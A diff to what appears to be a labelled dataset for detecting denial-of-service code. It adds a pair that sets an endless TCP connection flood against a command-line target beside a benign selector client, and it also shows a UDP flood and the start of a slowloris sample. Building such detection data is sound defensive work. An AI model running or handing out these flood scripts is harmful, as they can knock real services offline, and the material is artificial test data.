@@ -65,6 +65,16 @@ PAIRS = [
      "    s.sendto(os.urandom(1400), ('203.0.113.9', 27015))",
      "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(10):\n"
      "    s.sendto(os.urandom(64), ('127.0.0.1', 9999))"),
+    ("flood: connections opened in a loop of unknown length, or a selector client that reads", "dos_attack",
+     "import socket, sys\ntarget = (sys.argv[1], 80)\nwhile True:\n    for i in range(int(sys.argv[2])):\n"
+     "        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        s.connect_ex(target)\n"
+     "        s.send(b'x' * 1024)",
+     "import socket, selectors, sys\nsel = selectors.DefaultSelector()\ntarget = (sys.argv[1], 65432)\n"
+     "for i in range(int(sys.argv[2])):\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.setblocking(False)\n"
+     "    s.connect_ex(target)\n    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)\n"
+     "def service(key, mask):\n    if mask & selectors.EVENT_READ:\n        print(key.fileobj.recv(1024))\n"
+     "    if mask & selectors.EVENT_WRITE:\n        key.fileobj.send(b'hello')\n"
+     "while True:\n    for key, mask in sel.select(timeout=1):\n        service(key, mask)"),
     ("flood: slowloris", "dos_attack",
      "import socket, time, random\nopen_ = []\nfor _ in range(500):\n    c = socket.create_connection((victim, 80))\n"
      "    c.send(b'GET / HTTP/1.1\\r\\n')\n    open_.append(c)\nwhile True:\n    for c in open_:\n"
